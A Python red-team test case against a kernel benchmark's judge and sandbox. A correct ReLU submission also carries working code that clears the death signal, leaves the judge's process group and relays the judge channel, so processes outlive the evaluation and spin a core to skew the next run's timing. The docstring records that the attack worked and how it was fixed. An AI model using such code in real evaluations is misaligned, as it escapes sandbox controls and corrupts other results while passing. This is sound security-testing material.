"""Attack: leave processes running after the evaluation, and use them against the next one (19_ReLU).

The launcher's only process-lifetime guarantees without a cgroup are PR_SET_PDEATHSIG on the
sandbox's PID 1 and the PID namespace (everything dies with PID 1). Both are undone from inside:
  - prctl(PR_SET_PDEATHSIG, 0) in PID 1 (the kbv-sandbox runner itself, which runs our import),
  - setsid(), so kbv's kill(-judge_pgid) (subprocess.cpp end_group) misses it,
  - PID 1 must not exit: its channel (fd 3) is swapped (dup2) for a socketpair whose other end
    PID 1 itself keeps open, behind a transparent relay child that talks to the judge; when the
    judge goes, the runner never sees EOF and waits in receive() for kForever (24 h).
The judge's end_sandbox() SIGKILLs only the helper (launch.cpp), waits for it, and is done.
A child then waits until the judge is gone and burns one core for SPIN_SECONDS (the next
evaluation's timing on this host shares that core), writing a heartbeat file into its private
tmp (Landlock allows it), which the judge never deletes; PID 1 itself stays for 24 h.
(The working tree's launcher now calls setsid() itself, which makes this easier: kbv's group
kill never reaches the sandbox, so the PDEATHSIG that untrusted code can clear is the only
lifetime guarantee left.)
Correct ReLU, so the verdict itself is `correct`.
Verdict kbv gave: correct; PID 1 (ppid 1 on the host) and 'kbv-survivor' (60% CPU) still alive
after kbv exited; killed by hand. WORKED.

Found by the red team of the judge/sandbox split (2026-12-01). Fixed: the launcher learns the sandbox's pid and kills it through a pidfd (its whole PID
namespace dies with it), whatever the candidate did to its death signal or session. kbv must
conclude: no process of it outlives the evaluation.
"""
import ctypes
import json
import os
import select
import socket
import struct
import time

import torch
import torch.nn as nn

SPIN_SECONDS = 40
MAXMSG = (1 << 20) + 1
FDSPACE = socket.CMSG_SPACE(16 * 4)
libc = ctypes.CDLL(None, use_errno=True)
PR_SET_PDEATHSIG, PR_SET_NAME = 1, 15


def name(n):
    libc.prctl(PR_SET_NAME, ctypes.c_char_p(n.encode()), 0, 0, 0)


def relay(judge, runner):
    while True:
        r, _, _ = select.select([judge, runner], [], [])
        for src, dst in ((judge, runner), (runner, judge)):
            if src in r:
                data, anc, _, _ = src.recvmsg(MAXMSG, FDSPACE)
                if not data:
                    os._exit(0)
                fds = []
                for level, typ, blob in anc:
                    if level == socket.SOL_SOCKET and typ == socket.SCM_RIGHTS:
                        fds += list(struct.unpack(f"{len(blob) // 4}i", blob[: len(blob) // 4 * 4]))
                dst.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack(f"{len(fds)}i", *fds))] if fds else [])
                for fd in fds:
                    os.close(fd)


libc.prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0)  # PID 1 no longer dies with the launcher's helper
try:
    os.setsid()  # out of the judge's process group
except OSError as e:
    print("ATTACK survive: setsid", e, flush=True)

real = os.dup(3)
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
relay_pid = os.fork()
if relay_pid == 0:
    name("kbv-relay")
    b.close()
    try:
        relay(socket.socket(fileno=real), a)
    finally:
        os._exit(0)
os.close(real)
os.dup2(b.fileno(), 3)
b.close()
KEEP = a  # PID 1 keeps the relay's end open: its runner never reads EOF

if os.fork() == 0:
    name("kbv-survivor")
    tmp = os.environ.get("TMPDIR", "/tmp")
    while True:  # wait until the relay (i.e. the judge's channel) is gone
        try:
            os.kill(relay_pid, 0)
            pid, _ = os.waitpid(relay_pid, os.WNOHANG) if False else (0, 0)
        except OSError:
            break
        if open(f"/proc/{relay_pid}/stat").read().split()[2] == "Z":
            break
        time.sleep(0.2)
    end = time.time() + SPIN_SECONDS
    n = 0
    while time.time() < end:
        for _ in range(200000):
            n += 1
        with open(os.path.join(tmp, "heartbeat"), "w") as f:
            f.write(f"{time.time()} alive after the judge\n")
    os._exit(0)
print("ATTACK survive: pid", os.getpid(), "relay", relay_pid, flush=True)


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
